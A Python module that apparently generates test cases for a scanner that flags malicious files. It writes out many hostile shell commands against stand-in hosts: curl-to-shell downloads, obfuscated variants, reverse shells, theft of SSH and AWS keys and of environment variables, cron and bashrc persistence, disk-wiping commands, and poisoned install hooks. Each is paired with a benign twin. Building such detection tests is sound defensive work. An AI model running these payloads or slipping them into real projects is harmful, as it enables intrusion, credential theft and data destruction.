# ruff: noqa: E501  # programs, one text each
"""Shell scripts, Dockerfiles, notebooks, patches and files of requirements that attack; texts only, never executed."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Final

from corpora.case import Case, Expectation, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST: Final = "https://example.invalid"
ENCODED: Final = base64.b64encode(b"touch telamon-canary").decode()
SHELL: Final = {
    "download in a variable": f'p=$(curl -s {HOST}/p)\neval "$p"',
    "key in a variable": f'k=$(cat ~/.aws/credentials)\ncurl -d "$k" {HOST}',
    "decoded command in a variable": f"c=$(echo {ENCODED} | base64 -d)\n$c",
    "letters as numbers": "printf '\\143\\165\\162\\154\\040\\170' | sh",
    "curl to sh": f"curl -fsSL {HOST}/p | sh",
    "curl to sudo bash": f"curl {HOST}/p | sudo -E bash -s -- --yes",
    "wget to sh": f"wget -qO- {HOST}/p|sh",
    "quoted names": f"c'ur'l {HOST}/p | ba\"sh\"",
    "names in variables": f"a=cu; b=rl; $a$b {HOST}/p | ${{SHELL:-bash}}; x=ba; y=sh; $a$b {HOST}/p | $x$y",
    "escaped names": f"$'\\x63url' {HOST}/p | $'b\\x61sh'",
    "blanks in a variable": f"curl${{IFS}}{HOST}/p|bash",
    "substitution": f'sh -c "$(curl -fsSL {HOST}/p)"',
    "process substitution": f"bash <(curl -s {HOST}/p)",
    "eval": f'eval "$(wget -qO- {HOST}/p)"',
    "source": f"source <(curl -s {HOST}/p)",
    "backquotes": f"eval `curl -s {HOST}/p`",
    "python fed": f"curl -s {HOST}/p | python3 -",
    "through tee": f"curl -s {HOST}/p | tee /tmp/x | bash",
    "group": f"{{ curl -s {HOST}/p; }} | bash",
    "branch": f"if true; then curl -s {HOST}/p; fi | bash",
    "base64": f"echo {ENCODED} | base64 -d | sh",
    "base64 in a variable": f"p={ENCODED}\necho $p | base64 --decode | bash",
    "base64 evaluated": f'eval "$(echo {ENCODED} | base64 -d)"',
    "hex": "echo 746f756368 | xxd -r -p | bash",
    "here string": 'bash <<< "$(echo ' + ENCODED + ' | base64 -d)"',
    "here document": f"bash <<'EOF'\ncurl {HOST}/p | sh\nEOF",
    "python document": f"python3 <<'EOF'\nimport os\nos.system('curl {HOST}/p | sh')\nEOF",
    "python words": f"python3 -c \"import requests; exec(requests.get('{HOST}/p').text)\"",
    "hidden file": f"curl -so /tmp/.x {HOST}/x; chmod +x /tmp/.x; nohup /tmp/.x &",
    "memory file": f"wget -q {HOST}/x -O /dev/shm/x && chmod 777 /dev/shm/x && /dev/shm/x",
    "reverse shell": "bash -i >& /dev/tcp/203.0.113.9/9 0>&1",
    "reverse shell in words": "bash -c 'bash -i >& /dev/tcp/203.0.113.9/9 0>&1'",
    "reverse shell by exec": "exec 5<>/dev/tcp/203.0.113.9/9\ncat <&5 | while read line; do $line 2>&5 >&5; done",
    "netcat": "nc -e /bin/sh example.invalid 9",
    "netcat and a pipe": "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc example.invalid 9 > /tmp/f",
    "socat": "socat TCP:example.invalid:9 EXEC:/bin/sh",
    "perl": "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
    "key by curl": f"curl -F 'f=@/root/.ssh/id_rsa' {HOST}",
    "key through a pipe": f"cat ~/.aws/credentials | base64 | curl -d @- {HOST}",
    "key in the address": f"curl {HOST}/$(cat ~/.ssh/id_rsa | base64 -w0)",
    "key by netcat": "nc example.invalid 9 < ~/.ssh/id_rsa",
    "key by scp": "scp ~/.ssh/id_rsa a@example.invalid:",
    "archive of keys": f"tar czf - ~/.ssh ~/.gnupg | curl -T - {HOST}",
    "environment": f"env | curl -X POST --data-binary @- {HOST}",
    "environment in words": f'curl -d "$(printenv)" {HOST}',
    "key by names": "dig $(cat ~/.netrc | base64 | head -c 60).example.invalid",
    "schedule": f"(crontab -l; echo '*/5 * * * * curl -s {HOST} | sh') | crontab -",
    "profile": f"echo 'curl -s {HOST} | sh' >> ~/.bashrc",
    "keys to log in": "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    "preload": "echo /tmp/l.so > /etc/ld.so.preload",
    "root": "rm -rf --no-preserve-root /",
    "home": 'rm -rf "$HOME"/*',
    "disk": "dd if=/dev/zero of=/dev/sda bs=1M",
    "fork bomb": ":(){ :|:& };:",
    "history": "unset HISTFILE; history -c; rm -f ~/.bash_history",
    "audit": "systemctl stop auditd; auditctl -e 0",
    "miner": "./xmrig -o stratum+tcp://example.invalid:3333 -u x --donate-level 1",
    "odd index": "pip install --index-url http://example.invalid/simple --trusted-host example.invalid x",
}
DOCKER: Final = (
    "curl to sh",
    "base64",
    "reverse shell in words",
    "archive of keys",
    "hidden file",
    "keys to log in",
    "odd index",
)
CELLS: Final = {
    "shell escape": f"!curl -s {HOST}/p | sh",
    "shell cell": f"%%bash\ncurl -s {HOST}/p | bash",
    "assigned escape": f"x = !wget -qO- {HOST}/p | bash",
    "Python": f"import requests\nexec(requests.get('{HOST}/p').text)",
    "magic": f"%time exec(__import__('requests').get('{HOST}/p').text)",
    "written file": f"%%writefile conftest.py\nimport os\nos.system('curl {HOST}/p | sh')",
    "installation": "%pip install --extra-index-url http://example.invalid/simple x",
}
INSTALLERS: Final = {
    ("requirements.txt", "index without TLS"): "--extra-index-url http://example.invalid/simple\ntorch\n",
    ("requirements.txt", "trusted host"): "--trusted-host example.invalid\ntorch\n",
    ("requirements.txt", "bare number"): "x @ http://203.0.113.9/x.whl\n",
    ("requirements-dev.txt", "git without TLS"): "git+http://example.invalid/x.git\n",
    (
        "conda.yaml",
        "options of pip",
    ): "dependencies:\n  - pip:\n    - --index-url http://example.invalid/simple\n    - x\n",
    ("environment.yml", "address"): "dependencies:\n  - pip:\n    - http://example.invalid/x.tar.gz\n",
    ("pyproject.toml", "source"): "[[tool.poetry.source]]\nname = 'x'\nurl = \"http://example.invalid/simple\"\n",
    ("setup.cfg", "index"): "[easy_install]\nindex_url = http://example.invalid/simple\n",
    ("pip.conf", "index"): "[global]\nextra-index-url = http://example.invalid/simple\n",
    ("x.pth", "command"): f"import os; os.system('curl {HOST}/p | sh')\n",
    ("x.pth", "hidden code"): f"import base64; exec(base64.b64decode('{ENCODED}'))\n",
    ("x.pth", "download"): f"import urllib.request; exec(urllib.request.urlopen('{HOST}').read())\n",
    ("sitecustomize.py", "download"): f"import urllib.request\nexec(urllib.request.urlopen('{HOST}').read())\n",
    (
        "conftest.py",
        "environment",
    ): f"import os, requests\ndef pytest_configure(config):\n    requests.post('{HOST}', json=dict(os.environ))\n",
}
TWINS: Final = {
    "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n",
    "requirements-dev.txt": "git+https://github.com/pytest-dev/pytest.git@8.3.0\n",
    "conda.yaml": "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - mlflow==3.9.0\n",
    "environment.yml": "channels:\n  - defaults\ndependencies:\n  - numpy\n",
    "pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n[project.urls]\nurl = \"http://example.invalid\"\n",
    "setup.cfg": "[metadata]\nname = x\nurl = http://example.invalid\n",
    "pip.conf": "[global]\nindex-url = https://pypi.org/simple\n",
    "x.pth": "import _virtualenv\n../src\n",
    "sitecustomize.py": "import sys\nsys.dont_write_bytecode = True\n",
    "conftest.py": "import pytest\n\n\n@pytest.fixture\ndef x():\n    return 1\n",
}


def _notebook(cell: str) -> bytes:
    cells = [
        {"cell_type": "markdown", "source": ["# A model"]},
        {"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": []},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _patch(name: str, old: str, added: str) -> bytes:
    lines = "".join(f"+{line}\n" for line in added.splitlines())
    count = len(added.splitlines())
    head = f"diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n@@ -1,1 +1,{count + 1} @@\n {old}\n"
    return (head + lines).encode()


def _case(name: str, data: bytes, twin: bytes, file_name: str) -> Case:
    return Case(
        name=name, technique=Technique.SHELL_CODE, data=data, twin=twin, expectation=Expectation.PAYLOAD, file_name=file_name
    )  # fmt: skip  # one case


def cases() -> Iterator[Case]:
    """Yield every construction in the files that it comes in."""
    plain = b"#!/bin/sh\nset -e\ncd /srv/model\npython3 serve.py --port 8080\n"
    for name, text in SHELL.items():
        yield _case(f"script: {name}", f"#!/bin/bash\nset -e\n{text}\n".encode(), plain, "start.sh")
    for name in DOCKER:
        data = f'FROM python:3.12\nWORKDIR /srv\nRUN apt-get update && \\\n    # tools\n    {SHELL[name]}\nCMD ["python"]\n'
        twin = b"FROM python:3.12\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nRUN pip install -r requirements.txt\n"
        yield _case(f"image: {name}", data.encode(), twin, "Dockerfile")
    for name, cell in CELLS.items():
        yield _case(
            f"notebook: {name}",
            _notebook(cell),
            _notebook("!pip install torch\nimport torch\nprint(torch.__version__)"),
            "demo.ipynb",
        )
    for (file_name, name), text in INSTALLERS.items():
        yield _case(f"{file_name}: {name}", text.encode(), TWINS[file_name].encode(), file_name)
    for file_name, old, added in (
        ("model.py", "import os", f"import requests\nexec(requests.get('{HOST}/p').text)"),
        (
            "net.py",
            "    def load(self):",
            "        import os\n        os.system('bash -i >& /dev/tcp/203.0.113.9/9 0>&1')",
        ),
        (
            "setup.py",
            "from setuptools import setup",
            f"import os, requests\nrequests.post('{HOST}', json=dict(os.environ))",
        ),
        ("run.sh", "#!/bin/sh", f"curl -s {HOST}/p | sh"),
        ("Dockerfile", "FROM python:3.12", f"RUN curl -s {HOST}/p | sh"),
        ("requirements.txt", "torch", "--extra-index-url http://example.invalid/simple"),
    ):
        twin = _patch(file_name, old, "# a comment" if file_name != "net.py" else "        return 1")
        yield _case(f"patch: {file_name}", _patch(f"src/{file_name}", old, added), twin, "change.patch")
